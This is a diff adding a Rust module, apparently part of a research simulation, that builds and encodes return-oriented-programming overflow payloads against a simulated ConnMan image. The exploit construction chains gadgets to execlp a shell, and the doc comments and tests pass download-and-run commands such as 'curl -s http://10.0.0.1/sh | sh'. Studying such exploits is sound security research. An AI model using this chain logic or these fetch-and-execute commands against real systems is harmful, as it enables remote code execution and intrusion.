@@ -1,0 +1,252 @@
+//! ROP chains: construction (the attacker side) and encoding.
+//!
+//! A chain is a sequence of 64-bit words that overwrites a saved return
+//! address and the stack beyond it, followed by trailing data (command
+//! strings). [`RopChainBuilder`] plays the role of English et al.'s exploit
+//! construction: given a [`BinaryImage`] and a known ASLR slide it emits a
+//! chain that ends in `execlp("sh", "-c", <cmd>)`.
+
+use crate::image::{BinaryImage, GadgetOp};
+use crate::process::STACK_PAYLOAD_BASE;
+use std::fmt;
+
+/// Why a chain could not be built.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum BuildChainError {
+    /// The image lacks a required gadget.
+    MissingGadget(GadgetOp),
+    /// The encoded exploit would exceed the vulnerable read's input bound.
+    TooLong {
+        /// Bytes the exploit would need.
+        needed: usize,
+        /// Maximum input the daemon reads.
+        max: usize,
+    },
+}
+
+impl fmt::Display for BuildChainError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            BuildChainError::MissingGadget(op) => write!(f, "image lacks gadget {op:?}"),
+            BuildChainError::TooLong { needed, max } => {
+                write!(f, "exploit needs {needed} bytes but input is capped at {max}")
+            }
+        }
+    }
+}
+
+impl std::error::Error for BuildChainError {}
+
+/// An encoded overflow payload: filler, chain words, trailing data.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct RopChain {
+    /// Chain words, starting with the value that overwrites the saved RA.
+    pub words: Vec<u64>,
+    /// Data appended after the chain (command strings, NUL-terminated).
+    pub trailing: Vec<u8>,
+    /// RA offset this chain was encoded for.
+    pub ra_offset: usize,
+}
+
+impl RopChain {
+    /// Serializes to the raw bytes delivered over the network: `ra_offset`
+    /// filler bytes, then the words (little-endian), then trailing data.
+    pub fn encode(&self) -> Vec<u8> {
+        let mut out = vec![0x41u8; self.ra_offset];
+        for w in &self.words {
+            out.extend_from_slice(&w.to_le_bytes());
+        }
+        out.extend_from_slice(&self.trailing);
+        out
+    }
+
+    /// Total encoded length in bytes.
+    pub fn encoded_len(&self) -> usize {
+        self.ra_offset + self.words.len() * 8 + self.trailing.len()
+    }
+
+    /// Human-readable disassembly of the chain against `image` (annotates
+    /// each word as a gadget, a stack pointer, or unknown) — what an
+    /// analyst's exploit-development notes look like.
+    pub fn describe(&self, image: &crate::image::BinaryImage, slide: u64) -> String {
+        use std::fmt::Write as _;
+        let mut out = format!(
+            "overflow: {} filler bytes, RA at +{}
+",
+            self.ra_offset, self.ra_offset
+        );
+        for (i, word) in self.words.iter().enumerate() {
+            let annotation = match image.gadget_at(*word, slide) {
+                Some(op) => format!("gadget {op:?}"),
+                None if *word >= crate::process::STACK_PAYLOAD_BASE.wrapping_add(slide) => {
+                    "stack pointer (argument)".to_owned()
+                }
+                None => "unresolved address".to_owned(),
+            };
+            let _ = writeln!(out, "  [{i}] {word:#018x}  ; {annotation}");
+        }
+        if !self.trailing.is_empty() {
+            let printable: String = self
+                .trailing
+                .iter()
+                .take_while(|b| **b != 0)
+                .map(|b| if b.is_ascii_graphic() || *b == b' ' { *b as char } else { '.' })
+                .collect();
+            let _ = writeln!(out, "  trailing: \"{printable}\" ({} bytes)", self.trailing.len());
+        }
+        out
+    }
+}
+
+/// Builds exploits against a [`BinaryImage`].
+#[derive(Debug, Clone)]
+pub struct RopChainBuilder<'a> {
+    image: &'a BinaryImage,
+    slide: u64,
+}
+
+impl<'a> RopChainBuilder<'a> {
+    /// Creates a builder for `image`, assuming the text segment is loaded at
+    /// its static base plus `slide` (0 when the target has no ASLR; the
+    /// leaked value otherwise).
+    pub fn new(image: &'a BinaryImage, slide: u64) -> Self {
+        RopChainBuilder { image, slide }
+    }
+
+    /// Builds the paper's payload: a chain invoking
+    /// `execlp("sh","-c","curl -s <url> | sh")` — `cmd` is the full shell
+    /// command string.
+    ///
+    /// # Errors
+    ///
+    /// Returns [`BuildChainError::MissingGadget`] if the image lacks
+    /// `PopArg0` or `SyscallExec` gadgets, and [`BuildChainError::TooLong`]
+    /// if the encoded exploit exceeds the vulnerable input bound.
+    pub fn execlp(&self, cmd: &str) -> Result<RopChain, BuildChainError> {
+        let pop0 = self
+            .image
+            .gadget_addr(GadgetOp::PopArg0)
+            .ok_or(BuildChainError::MissingGadget(GadgetOp::PopArg0))?;
+        let syscall = self
+            .image
+            .gadget_addr(GadgetOp::SyscallExec)
+            .ok_or(BuildChainError::MissingGadget(GadgetOp::SyscallExec))?;
+        let ra_offset = self.image.vuln.ra_offset();
+        // Three words: [pop arg0][ptr to cmd][syscall]. The command string
+        // sits right after the chain inside the delivered payload, whose
+        // stack address slides together with the image.
+        let cmd_ptr = STACK_PAYLOAD_BASE
+            .wrapping_add(self.slide)
+            .wrapping_add(ra_offset as u64)
+            .wrapping_add(3 * 8);
+        let words = vec![
+            pop0.wrapping_add(self.slide),
+            cmd_ptr,
+            syscall.wrapping_add(self.slide),
+        ];
+        let mut trailing = cmd.as_bytes().to_vec();
+        trailing.push(0);
+        let chain = RopChain {
+            words,
+            trailing,
+            ra_offset,
+        };
+        let needed = chain.encoded_len();
+        let max = self.image.vuln.max_input;
+        if needed > max {
+            return Err(BuildChainError::TooLong { needed, max });
+        }
+        Ok(chain)
+    }
+
+    /// Builds a naive *code-injection* payload (shellcode on the stack):
+    /// the saved RA points straight into the delivered bytes. Blocked by
+    /// W⊕X — included to demonstrate the paper's attack-model assumption
+    /// that code injection fails on protected Devs.
+    pub fn stack_shellcode(&self, cmd: &str) -> RopChain {
+        let ra_offset = self.image.vuln.ra_offset();
+        let shellcode_ptr = STACK_PAYLOAD_BASE
+            .wrapping_add(self.slide)
+            .wrapping_add(ra_offset as u64)
+            .wrapping_add(8);
+        let mut trailing = cmd.as_bytes().to_vec();
+        trailing.push(0);
+        RopChain {
+            words: vec![shellcode_ptr],
+            trailing,
+            ra_offset,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::catalog;
+    use crate::image::Arch;
+
+    #[test]
+    fn execlp_chain_has_three_words() {
+        let img = catalog::connman_image(Arch::X86_64);
+        let chain = RopChainBuilder::new(&img, 0)
+            .execlp("curl -s http://10.0.0.1/sh | sh")
+            .expect("connman image has the required gadgets");
+        assert_eq!(chain.words.len(), 3);
+        assert_eq!(chain.ra_offset, img.vuln.ra_offset());
+        assert!(chain.trailing.ends_with(&[0]));
+    }
+
+    #[test]
+    fn encode_layout() {
+        let img = catalog::connman_image(Arch::X86_64);
+        let chain = RopChainBuilder::new(&img, 0).execlp("x").expect("builds");
+        let bytes = chain.encode();
+        assert_eq!(bytes.len(), chain.encoded_len());
+        // Filler then first word.
+        assert!(bytes[..chain.ra_offset].iter().all(|b| *b == 0x41));
+        let w0 = u64::from_le_bytes(bytes[chain.ra_offset..chain.ra_offset + 8].try_into().expect("8 bytes"));
+        assert_eq!(w0, chain.words[0]);
+    }
+
+    #[test]
+    fn slide_shifts_gadget_words() {
+        let img = catalog::connman_image(Arch::X86_64);
+        let c0 = RopChainBuilder::new(&img, 0).execlp("x").expect("builds");
+        let c1 = RopChainBuilder::new(&img, 0x4000).execlp("x").expect("builds");
+        assert_eq!(c1.words[0], c0.words[0] + 0x4000);
+        assert_eq!(c1.words[2], c0.words[2] + 0x4000);
+    }
+
+    #[test]
+    fn too_long_command_is_rejected() {
+        let img = catalog::connman_image(Arch::X86_64);
+        let huge = "x".repeat(img.vuln.max_input + 1);
+        assert!(matches!(
+            RopChainBuilder::new(&img, 0).execlp(&huge),
+            Err(BuildChainError::TooLong { .. })
+        ));
+    }
+
+    #[test]
+    fn describe_annotates_gadgets_and_arguments() {
+        let img = catalog::connman_image(Arch::X86_64);
+        let chain = RopChainBuilder::new(&img, 0)
+            .execlp("curl -s http://10.0.0.2/i.sh | sh")
+            .expect("builds");
+        let text = chain.describe(&img, 0);
+        assert!(text.contains("gadget PopArg0"));
+        assert!(text.contains("gadget SyscallExec"));
+        assert!(text.contains("stack pointer"));
+        assert!(text.contains("curl -s"));
+    }
+
+    #[test]
+    fn missing_gadget_is_reported() {
+        let mut img = catalog::connman_image(Arch::X86_64);
+        img.gadgets.retain(|_, g| *g != GadgetOp::SyscallExec);
+        assert_eq!(
+            RopChainBuilder::new(&img, 0).execlp("x").unwrap_err(),
+            BuildChainError::MissingGadget(GadgetOp::SyscallExec)
+        );
+    }
+}
